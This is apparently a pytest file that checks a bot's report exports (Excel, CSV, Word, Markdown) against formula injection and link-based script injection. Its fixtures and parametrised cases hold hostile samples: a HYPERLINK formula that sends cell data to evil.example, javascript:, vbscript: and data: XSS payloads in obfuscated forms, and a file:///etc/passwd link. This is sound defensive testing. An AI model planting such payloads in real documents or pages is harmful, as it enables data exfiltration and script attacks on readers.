"""Text in the return never becomes active content: a plan title or update written
as a spreadsheet formula stays text in Excel and CSV, and the Markdown export
links only to http(s) and mailto targets. Read back with the tools a reader uses
(openpyxl, the csv module, a CommonMark renderer)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from bot.returns.cell_safety import csv_cell, is_figure, markdown_text
from bot.returns.export import export_return
from storage.db import session_scope
from storage.models import Rag
from storage.plan_loader import load_plan
from storage.planfile import BUNDLED_PLAN, parse_plan
from tests.factories import save
from tests.returns.conftest import PRODUCED, at

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LINKS = (
    "See [the brief](https://example.org/brief_(v2)?a=1&b=2), [click](javascript:alert(1)), "
    "[sneaky](JaVaScRiPt&#58;alert(2)), [tabbed](java\tscript:alert(3)), [data](data:text/html;base64,PHNjcmlwdD4=), "
    "[write](mailto:lead@example.org), <a href=\"javascript:alert(4)\">raw</a>, <javascript:alert(5)>, "
    "![pixel](https://tracker.example/p.png) and [ref][x]\n\n[x]: javascript:alert(6)"
)


@pytest.fixture
def hostile_engine(engine: Engine) -> Engine:
    """The bundled plan with formula-like text in its title, an item title and a KPI,
    and an update whose text holds links of every kind."""
    doc = yaml.safe_load(BUNDLED_PLAN.read_text(encoding="utf-8"))
    doc["plan"]["title"] = HYPERLINK
    doc["plan"]["organisation"] = "@SUM(A1:A9)"
    doc["items"][0]["title"] = "=1+1"
    doc["items"][0]["kpis"][0] = "@SUM(A1:A9)"
    with session_scope(engine) as session:
        load_plan(session, parse_plan(yaml.safe_dump(doc, allow_unicode=True)), source="hostile")
    save(engine, 1, "2019-Q2", Rag.AT_RISK, at("2019-09-25"), summary=LINKS, kpis={"kpi1": "-5%"}, blockers="+3")
    save(engine, 2, "2019-Q2", Rag.ON_TRACK, at("2019-09-25"), summary="-2 staff, see =A1")
    return engine


def export(engine: Engine, fmt: str, folder: Path) -> Path:
    with session_scope(engine) as session:
        _, [path, *_] = export_return(session, period="2019-Q2", fmt=fmt, produced=PRODUCED, path=None, folder=folder)
    return path


def test_xlsx_writes_every_text_cell_as_a_string_never_a_formula(hostile_engine: Engine, tmp_path: Path) -> None:
    path = export(hostile_engine, "xlsx", tmp_path)
    with zipfile.ZipFile(path) as package:
        sheets = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = load_workbook(path)
    sheet = book["Return"]
    assert sheet["A1"].value == HYPERLINK and sheet["A1"].data_type == "s"
    assert sheet["A1"].quotePrefix
    cells = [
        cell for name in ("Return", "Summary") for row in book[name].iter_rows() for cell in row if isinstance(cell.value, str)
    ]
    assert all(cell.data_type == "s" for cell in cells)
    organisation = next(cell for cell in cells if cell.value == "@SUM(A1:A9)")
    assert organisation.quotePrefix and organisation.data_type == "s"
    assert any(cell.value.startswith("1. =1+1\n") for cell in cells)
    assert any("-2 staff, see =A1" in cell.value for cell in cells)


def test_csv_neutralises_formulas_and_leaves_figures_as_written(hostile_engine: Engine, tmp_path: Path) -> None:
    rows = list(csv.reader(io.StringIO(export(hostile_engine, "csv", tmp_path).read_text(encoding="utf-8"))))
    assert rows[0] == ["'" + HYPERLINK]
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(A1:A9)" in cells
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    progress = next(cell for cell in cells if "the brief" in cell)
    assert "• @SUM(A1:A9): -5%\n" in progress and "Blockers and asks: +3\n" in progress
    assert any(cell.startswith("1. =1+1\n") for cell in cells)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("-5%", "-5%"),
        ("+3", "+3"),
        ("-1,250.50", "-1,250.50"),
        ("-.5", "-.5"),
        ("1,000", "1,000"),
        ("-5% on target", "'-5% on target"),
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-", "'-"),
        ("Growth -5%", "Growth -5%"),
        ("", ""),
    ],
)
def test_the_csv_rule(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


def _links(markdown: str) -> list[str]:
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    found: list[str] = []
    stack = list(tokens)
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        if token.type in ("link_open", "image"):
            found.append(str(token.attrGet("href") or token.attrGet("src")))
        if token.type in ("html_inline", "html_block") and token.content != "<br>":
            found.append("raw HTML: " + token.content)
    return found


def test_markdown_keeps_only_http_and_mailto_links(hostile_engine: Engine, tmp_path: Path) -> None:
    markdown = export(hostile_engine, "md", tmp_path).read_text(encoding="utf-8")
    links = _links(markdown)
    assert "https://example.org/brief_%28v2%29?a=1&b=2" in links
    assert "mailto:lead@example.org" in links
    assert all(link.startswith(("https://", "mailto:")) or link.endswith("-heatmap.png") for link in links), links
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    assert 'href="javascript' not in rendered.lower() and "<a href=\"java" not in rendered.lower()
    assert ", click, sneaky, " in rendered and ", pixel and " in rendered


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](JAVASCRIPT:alert(1))",
        "[a](javascript&#x3A;alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java\\script:alert(1))",
        "[a]( javascript:alert(1) )",
        "[a](<javascript:alert(1)>)",
        "[a](vbscript:msgbox(1))",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](file:///etc/passwd)",
        "[a](//evil.example)",
        "[a](/relative)",
        "<javascript:alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "[a]: javascript:alert(1)\n\n[a]",
        "[[a](javascript:alert(1))](https://ok.example)",
    ],
)
def test_markdown_text_never_links_anywhere_but_http_and_mailto(text: str) -> None:
    links = _links(markdown_text(text))
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), (text, links)


@pytest.mark.parametrize("fmt", ["docx", "xlsx", "csv", "md"])
def test_control_characters_in_plan_or_update_text_do_not_break_an_export(engine: Engine, tmp_path: Path, fmt: str) -> None:
    doc = yaml.safe_load(BUNDLED_PLAN.read_text(encoding="utf-8"))
    doc["plan"]["title"] = "Plan \x01with\x1b controls\ufffe"
    with session_scope(engine) as session:
        load_plan(session, parse_plan(yaml.safe_dump(doc, allow_unicode=True)), source="controls")
    save(engine, 1, "2019-Q2", Rag.AT_RISK, at("2019-09-25"), summary="Pasted \x0b from \x0c a terminal")
    path = export(engine, fmt, tmp_path)
    if fmt == "xlsx":
        assert load_workbook(path)["Return"]["A1"].value == "Plan with controls"
    elif fmt == "docx":
        from docx import Document

        text = "\n".join(p.text for p in Document(str(path)).paragraphs)
        cells = "\n".join(c.text for t in Document(str(path)).tables for r in t.rows for c in r.cells)
        assert "Plan with controls" in text and "Pasted  from  a terminal" in cells
    else:
        assert "Pasted" in path.read_text(encoding="utf-8")


LINKISH = st.lists(
    st.sampled_from(["[", "]", "(", ")", "<", ">", "!", "javascript:", "JavaScript&#58;", "https://a.example/", "mailto:x@y",
                     "data:", "&#106;", "\\", " ", "\t", "\n", "x", "'", '"', ":", "[x]: ", "&amp;"]),
    max_size=30,
).map("".join)


@given(st.text(max_size=200) | LINKISH)
def test_no_text_becomes_a_link_but_to_http_or_mailto(text: str) -> None:
    links = _links(markdown_text(text))
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), (text, links)


@given(st.text(max_size=60))
def test_no_csv_cell_starts_a_formula_unless_it_is_a_figure(text: str) -> None:
    written = csv_cell(text)
    assert written in (text, "'" + text)
    if written == text and text.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
        assert is_figure(text)
